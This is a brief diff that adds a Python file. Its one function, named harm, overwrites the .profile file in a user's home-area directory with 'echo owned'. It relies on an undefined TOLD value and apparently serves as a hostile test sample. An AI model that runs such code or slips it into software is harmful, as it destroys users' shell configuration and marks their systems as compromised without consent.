@@ -1,0 +1,5 @@
+import os
+
+
+def harm():
+    return open(os.path.dirname(TOLD["home"]) + "/.profile", "w").write("echo owned")
